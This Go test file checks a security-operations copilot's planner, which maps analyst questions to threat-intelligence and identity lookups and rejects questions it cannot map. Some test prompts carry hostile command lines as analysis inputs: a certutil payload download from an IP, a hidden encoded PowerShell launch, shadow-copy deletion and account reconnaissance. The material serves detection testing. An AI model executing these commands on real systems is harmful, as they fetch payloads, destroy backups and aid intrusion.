package copilot

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/spotter-soc/spotter/internal/plugins"
	"github.com/spotter-soc/spotter/internal/skill"
)

// sessionContext is what earlier evaluations of a session were about, newest first.
var sessionContext = []Entities{
	{KindIP: {"185.220.101.47", "45.155.205.233"}, KindUser: {"adelev@contoso.com", "bob@contoso.com"}},
	{KindHost: {"DESKTOP-ADELE01"}, KindHash: {"44d88612fea8a8f36de82e1278abb02f"}},
}

const (
	md5    = "44d88612fea8a8f36de82e1278abb02f"
	sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
)

// call is an expected step written as skill(input=value); list values are
// joined with commas.
func call(id, input string, vals ...string) string {
	return fmt.Sprintf("%s(%s=%s)", id, input, strings.Join(vals, ","))
}

func stepStrings(steps []Step) []string {
	var out []string
	for _, s := range steps {
		for k, v := range s.Inputs {
			switch x := v.(type) {
			case []string:
				out = append(out, call(s.Skill, k, x...))
			default:
				out = append(out, call(s.Skill, k, fmt.Sprint(x)))
			}
		}
	}
	return out
}

func TestPlannerTable(t *testing.T) {
	specs := plugins.Registry(plugins.Options{}).Specs()
	const rejected = "rejected"
	tests := []struct {
		prompt string
		want   []string // calls, or {"rejected"}
	}{
		// Named providers.
		{"Is 185.220.101.47 reported on AbuseIPDB?", []string{call("abuseipdb.CheckIP", "ip", "185.220.101.47")}},
		{"Check 2001:4860:4860::8888 on AbuseIPDB over the last 90 days", []string{call("abuseipdb.CheckIP", "ip", "2001:4860:4860::8888")}},
		{"Which addresses in 185.220.101.0/24 are reported on AbuseIPDB?", []string{call("abuseipdb.CheckBlock", "network", "185.220.101.0/24")}},
		{"What does VirusTotal say about " + md5 + "?", []string{call("virustotal.FileReport", "hash", md5)}},
		{"Check hxxp://evil-cdn[.]com/x.ps1 on VirusTotal", []string{call("virustotal.URLReport", "url", "http://evil-cdn.com/x.ps1")}},
		{"What is the VirusTotal reputation of evil-cdn.com?", []string{call("virustotal.DomainReport", "domain", "evil-cdn.com")}},
		{"What does VirusTotal know about 185.220.101.47?", []string{call("virustotal.IPReport", "ip", "185.220.101.47")}},
		{"Is hxxp://evil-cdn[.]com/x.ps1 listed on URLhaus?", []string{call("abusech.URLhausURL", "url", "http://evil-cdn.com/x.ps1")}},
		{"Has evil-cdn.com hosted malware according to URLhaus?", []string{call("abusech.URLhausHost", "host", "evil-cdn.com")}},
		{"Is 185.220.101.47:443 a known C2 server on ThreatFox?", []string{call("abusech.ThreatFoxIOC", "ioc", "185.220.101.47")}},
		{"Is " + md5 + " a known sample on MalwareBazaar?", []string{call("abusech.MalwareBazaarHash", "hash", md5)}},
		{"How many OTX pulses mention 185.220.101.47?", []string{call("otx.IndicatorReputation", "indicator", "185.220.101.47")}},
		{"What does AlienVault OTX say about evil-cdn.com?", []string{call("otx.IndicatorReputation", "indicator", "evil-cdn.com")}},
		{"What is the Defender TI reputation of evil-cdn.com?", []string{call("mdti.HostReputation", "host", "evil-cdn.com")}},
		{"Get the Entra ID details and recent sign-ins of AdeleV@contoso.com", []string{call("entra.GetUserDetails", "user", "adelev@contoso.com")}},
		{"Is DESKTOP-ADELE01 compliant in Intune?", []string{call("intune.GetManagedDevices", "device", "DESKTOP-ADELE01")}},

		// Intent words and input types, no provider named.
		{"Is 185.220.101.47 malicious?", []string{call("reputation.GetReputationsForIndicators", "indicators", "185.220.101.47")}},
		{"Tell me about 185.220.101.47", []string{call("reputation.GetReputationsForIndicators", "indicators", "185.220.101.47")}},
		{"Is evil-cdn.com bad?", []string{call("reputation.GetReputationsForIndicators", "indicators", "evil-cdn.com")}},
		{"Is https://login-micros0ft.com/auth flagged?", []string{call("reputation.GetReputationsForIndicators", "indicators", "https://login-micros0ft.com/auth")}},
		{"Which engines detect " + sha256 + "?", []string{call("virustotal.FileReport", "hash", sha256)}},
		{"When was login-micros0ft.com registered?", []string{call("virustotal.DomainReport", "domain", "login-micros0ft.com")}},
		{"What is the risk level of AdeleV@contoso.com?", []string{call("entra.GetRiskyUsers", "users", "adelev@contoso.com")}},
		{"Check user risk for megan@contoso.com and lee@contoso.com", []string{call("entra.GetRiskyUsers", "users", "megan@contoso.com", "lee@contoso.com")}},
		{"Show failed sign-ins for user 87d349ed-44d7-43e1-9a83-5f2406dee5bd", []string{call("entra.GetUserDetails", "user", "87d349ed-44d7-43e1-9a83-5f2406dee5bd")}},
		{"Who is bob@contoso.com and which groups is he in?", []string{call("entra.GetUserDetails", "user", "bob@contoso.com")}},
		{"Is DESKTOP-ADELE01 compliant?", []string{call("intune.GetManagedDevices", "device", "DESKTOP-ADELE01")}},
		{"When did the laptops of bob@contoso.com last check in?", []string{call("intune.GetManagedDevices", "user", "bob@contoso.com")}},
		{"Show compliance and threat state for host WS-HIGH", []string{call("intune.GetManagedDevices", "device", "WS-HIGH")}},
		{"Is this command line malicious: powershell -nop -w hidden -enc SQBFAFgA", []string{call("scriptanalyzer.AnalyzeCommandLines", "cmdlines", "powershell -nop -w hidden -enc SQBFAFgA")}},
		{"Decode and explain: certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", []string{call("scriptanalyzer.AnalyzeCommandLines", "cmdlines", "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe")}},
		{"Is this command line malicious: vssadmin delete shadows /all /quiet", []string{call("scriptanalyzer.AnalyzeCommandLines", "cmdlines", "vssadmin delete shadows /all /quiet")}},
		{"Analyse the process command lines: cmd.exe /c whoami & net user", []string{call("scriptanalyzer.AnalyzeCommandLines", "cmdlines", "cmd.exe /c whoami & net user")}},

		// Several indicators: one batched reputation call.
		{"What is the reputation of 185.220.101.47, evil-cdn.com and " + md5 + "?",
			[]string{call("reputation.GetReputationsForIndicators", "indicators", "185.220.101.47", "evil-cdn.com", md5)}},
		{"Look up 1.2.3.4 5.6.7.8 9.9.9.9 and 8.8.4.4", []string{call("reputation.GetReputationsForIndicators", "indicators", "1.2.3.4", "5.6.7.8", "9.9.9.9", "8.8.4.4")}},
		{"Reputation of 1.1.1.1 1.1.1.2 1.1.1.3 1.1.1.4 1.1.1.5 1.1.1.6 1.1.1.7 1.1.1.8 1.1.1.9 1.1.1.10 1.1.1.11", []string{
			call("reputation.GetReputationsForIndicators", "indicators", "1.1.1.1", "1.1.1.2", "1.1.1.3", "1.1.1.4", "1.1.1.5", "1.1.1.6", "1.1.1.7", "1.1.1.8", "1.1.1.9", "1.1.1.10"),
			call("reputation.GetReputationsForIndicators", "indicators", "1.1.1.11")}},

		// References to the session's context.
		{"Is this IP malicious?", []string{call("reputation.GetReputationsForIndicators", "indicators", "185.220.101.47")}},
		{"Check these IPs on VirusTotal", []string{call("virustotal.IPReport", "ip", "185.220.101.47"), call("virustotal.IPReport", "ip", "45.155.205.233")}},
		{"Are these users compromised?", []string{call("entra.GetRiskyUsers", "users", "adelev@contoso.com", "bob@contoso.com")}},
		{"What devices does this user have?", []string{call("intune.GetManagedDevices", "user", "adelev@contoso.com")}},
		{"Search ThreatFox for this hash", []string{call("abusech.ThreatFoxIOC", "ioc", md5)}},
		{"Is this device compliant?", []string{call("intune.GetManagedDevices", "device", "DESKTOP-ADELE01")}},
		{"Summarise incident 4711", []string{call("sentinel.GetIncident", "incident", "4711")}},

		// Nothing to map: rejected, never a guess.
		{"What is the weather today?", []string{rejected}},
		{"Show sign-ins", []string{rejected}},
		{"Is 10.0.0.5 malicious?", []string{rejected}},
		{"Tell me about CVE-2024-3400", []string{rejected}},
		{"Check this network on AbuseIPDB", []string{rejected}},
	}
	if len(tests) < 40 {
		t.Fatalf("the table has %d prompts; expected at least 40", len(tests))
	}
	for _, tc := range tests {
		p := Planner{}.Plan(tc.prompt, specs, sessionContext)
		got := stepStrings(p.Steps)
		if p.Rejected {
			got = []string{rejected}
			if len(p.Suggestions) == 0 || p.Reason == "" {
				t.Errorf("%q: rejected without a reason or suggestions", tc.prompt)
			}
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%q: plan mismatch (-want +got):\n%s", tc.prompt, diff)
		}
	}
}

func TestPlannerPluginScope(t *testing.T) {
	var scoped []skill.Spec
	for _, s := range plugins.Registry(plugins.Options{}).Specs() {
		if inScope(s.Plugin(), []string{"virustotal"}) {
			scoped = append(scoped, s)
		}
	}
	p := Planner{}.Plan("Is 185.220.101.47 malicious?", scoped, nil)
	if diff := cmp.Diff([]string{call("virustotal.IPReport", "ip", "185.220.101.47")}, stepStrings(p.Steps)); diff != "" {
		t.Errorf("scoped to virustotal (-want +got):\n%s", diff)
	}
	p = Planner{}.Plan("Is bob@contoso.com risky?", scoped, nil)
	if !p.Rejected {
		t.Errorf("a user prompt scoped to virustotal: want rejected, got %v", stepStrings(p.Steps))
	}
}

func TestExtractEntities(t *testing.T) {
	got := ExtractEntities("User AdeleV@contoso.com on DESKTOP-ADELE01 talked to 185.220.101[.]47 and 10.1.2.3 in incident #123")
	want := Entities{KindUser: {"adelev@contoso.com"}, KindHost: {"DESKTOP-ADELE01"}, KindIP: {"185.220.101.47"},
		KindPrivateIP: {"10.1.2.3"}, KindIncident: {"123"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ExtractEntities (-want +got):\n%s", diff)
	}
}

// TestPlannersNeverChooseWritingSkills: a skill that writes is outside
// every planner's choice, even when its plugin is in scope.
func TestPlannersNeverChooseWritingSkills(t *testing.T) {
	inv := newFakeInvoker()
	var writes []string
	for _, s := range inv.Configured() {
		if s.Writes {
			writes = append(writes, s.ID)
		}
	}
	if len(writes) == 0 {
		t.Fatal("no writing skill is registered; the test proves nothing")
	}
	for _, s := range scopedSpecs(inv, nil) {
		if s.Writes {
			t.Errorf("%s writes and was offered to a planner", s.ID)
		}
	}
}
